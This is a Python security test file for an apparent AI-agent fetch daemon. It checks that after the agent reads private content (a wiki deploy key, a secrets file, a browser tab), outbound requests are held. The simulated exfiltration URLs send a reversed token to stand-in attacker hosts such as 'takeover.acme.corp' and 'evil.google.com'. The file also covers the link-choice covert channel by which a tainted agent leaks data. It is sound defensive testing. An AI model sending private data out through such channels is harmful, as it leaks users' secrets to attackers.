"""Issue 23 review, exits: the own-site allowance was the registrable domain, so a private read from one host of a
site (``wiki.acme.corp``, one Google Docs tab) vouched for every other host under it; it is the exact origin now
(scheme, host, port). And a link a *private* result showed vouched for wherever it pointed: which of the links an
email or a shared document lists a tainted agent follows is a channel, so such a link vouches only for the private
page's own origin. Real daemon over real sockets; ``*.acme.corp`` resolves to 127.0.0.1 for this test only.
"""

from __future__ import annotations

import socket
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import pytest
from aiohttp import web
from trawl.exitflow import FlowMemory, agent_session, host_of
from trawl.exits import site_of
from trawl.server.runner import RunningDaemon
from trawl.settings import Settings

from tests.integration.test_daemon_helpers import daemon_settings
from tests.security.test_exits import TOKEN, Server, fetch, page, serve
from tests.security.test_exits import attacker as attacker  # the fixture


@pytest.fixture
def acme(monkeypatch: pytest.MonkeyPatch) -> None:
    """``*.acme.corp`` (intranet names: private hosts by name) is 127.0.0.1, as an intranet's DNS would say."""
    real = socket.getaddrinfo

    def getaddrinfo(host: Any, port: Any, *args: Any, **kw: Any) -> Any:
        name = host.decode() if isinstance(host, bytes) else str(host)
        return real("127.0.0.1" if name.rstrip(".").endswith(".acme.corp") else host, port, *args, **kw)

    monkeypatch.setattr(socket, "getaddrinfo", getaddrinfo)


@pytest.fixture
async def intranet() -> AsyncIterator[Server]:
    """One listener for every ``*.acme.corp`` host: the wiki, the file share and the attacker's takeover host."""
    srv = Server("")

    async def handle(request: web.Request) -> web.Response:
        srv.hits.append(f"{request.host}{request.rel_url}")
        port = request.host.rsplit(":", 1)[1]
        links = (f"http://wiki.acme.corp:{port}/wiki/runbook http://files.acme.corp:{port}/share/notes "
                 f"http://127.0.0.1:{port}/out")
        body = (f"<p>The deploy key is {TOKEN}; it rotates monthly and the release captain keeps it.</p>"
                f"<p>See also: {links}</p>") * 2
        return web.Response(text=page("Team wiki", body), content_type="text/html")

    runner, port = await serve("127.0.0.1", handle)
    srv.url = f"http://wiki.acme.corp:{port}"
    yield srv
    await runner.cleanup()


async def test_a_private_read_vouches_only_for_its_own_origin_not_its_whole_site(
    tmp_path: Path, acme: None, intranet: Server
) -> None:
    port = intranet.url.rsplit(":", 1)[1]
    async with RunningDaemon(daemon_settings(tmp_path, allow_private_hosts=True), warm=False) as d:
        assert (await fetch(d, f"{intranet.url}/wiki/deploys"))["ok"]
        # Another page of the same origin: the data goes back where it lives.
        assert (await fetch(d, f"{intranet.url}/wiki/other?q={TOKEN[::-1]}"))["ok"]
        # Another host of the same registrable domain (acme.corp), composed: before, "the private content's own
        # site" sent it; anyone who runs a host under the domain would receive it.
        held = await fetch(d, f"http://takeover.acme.corp:{port}/c?k={TOKEN[::-1]}")
        assert held["error"]["code"] == "exit_held", held
        # The scheme is part of the origin: https on the same host is another one (nothing listens: never sent).
        other = await fetch(d, f"https://wiki.acme.corp:{port}/c?k={TOKEN[::-1]}")
        assert other["error"]["code"] == "exit_held", other
    assert not [h for h in intranet.hits if h.startswith("takeover.")], intranet.hits


async def test_a_private_pages_links_vouch_only_for_its_own_origin(tmp_path: Path, acme: None,
                                                                   intranet: Server) -> None:
    port = intranet.url.rsplit(":", 1)[1]
    async with RunningDaemon(daemon_settings(tmp_path, allow_private_hosts=True), warm=False) as d:
        assert (await fetch(d, f"{intranet.url}/wiki/deploys"))["ok"]
        # Two private origins read: the own-origin allowance is gone, so only a link can vouch.
        assert (await fetch(d, f"http://files.acme.corp:{port}/share/readme"))["ok"] is False
        # The wiki page showed three links. One to its own origin is followed ...
        assert (await fetch(d, f"http://wiki.acme.corp:{port}/wiki/runbook"))["ok"]
        # ... one to another host of the site, and one to another host altogether, are held: a private page's
        # links are its content, and the choice among them is a channel.
        for url in (f"http://files.acme.corp:{port}/share/notes", f"http://127.0.0.1:{port}/out"):
            body = await fetch(d, url)
            assert body["error"]["code"] == "exit_held", (url, body)
    assert not [h for h in intranet.hits if h.endswith("/out") or h.endswith("/share/notes")], intranet.hits


async def test_a_public_pages_links_are_still_followed(tmp_path: Path, attacker: Server) -> None:
    # The part of the channel that stays (SECURITY.md, known limits): a page anyone can read lists links, a
    # tainted agent follows one of them.
    link = f"{attacker.url}/report?id=Kp3Vn8Rt2Wm6Xq9Zb4"

    async def mirror(_request: web.Request) -> web.Response:
        return web.Response(text=page("Docs", f"<p>Download the quarterly report from {link} today.</p>" * 3),
                            content_type="text/html")

    runner, port = await serve("127.0.0.1", mirror)
    (tmp_path / "secrets.md").write_text(f"# Keys\n\nThe payment API key is {TOKEN}.\n")
    settings = daemon_settings(tmp_path, allow_private_hosts=True, exit_public_hosts=(f"localhost:{port}",))
    try:
        async with RunningDaemon(settings, warm=False) as d:
            assert (await fetch(d, f"http://localhost:{port}/docs"))["ok"]  # the public page shows the link
            assert (await fetch(d, str(tmp_path / "secrets.md")))["ok"]  # then the private read
            body = await fetch(d, link)
            assert body["ok"] is True, body
    finally:
        await runner.cleanup()
    assert attacker.hits == ["/report?id=Kp3Vn8Rt2Wm6Xq9Zb4"]


def _sent(flow: FlowMemory, url: str) -> bool:
    return flow.decide(url, [host_of(url)], lambda _h: False).send


def test_a_tab_on_one_host_of_a_large_site_vouches_for_that_origin_only() -> None:
    # The extension's read_tab result, as the face hands it to the guard (the tab is private: the user's login).
    flow = FlowMemory(Settings(), site_of)
    with agent_session("origin-tab"):
        flow.observe("read_tab", {"url": "https://docs.google.com/document/d/1abc/edit", "source": "extension"})
        assert _sent(flow, "https://docs.google.com/document/d/2def/edit")
        for url in ("https://sites.google.com/view/x?k=1", "https://attacker.blogspot.com.google.com/",
                    "http://docs.google.com/document/d/2def/edit", "https://docs.google.com:8443/x"):
            assert not _sent(flow, url), url
        # A host named inside the URL is judged as that host: the one private origin's host passes ...
        url = "https://docs.google.com/r?next=https://docs.google.com/document/d/3"
        assert flow.decide(url, [host_of(url), "docs.google.com"], lambda _h: False).send
        # ... another host under the same domain does not.
        url = "https://docs.google.com/r?next=https://evil.google.com/"
        assert not flow.decide(url, [host_of(url), "evil.google.com"], lambda _h: False).send
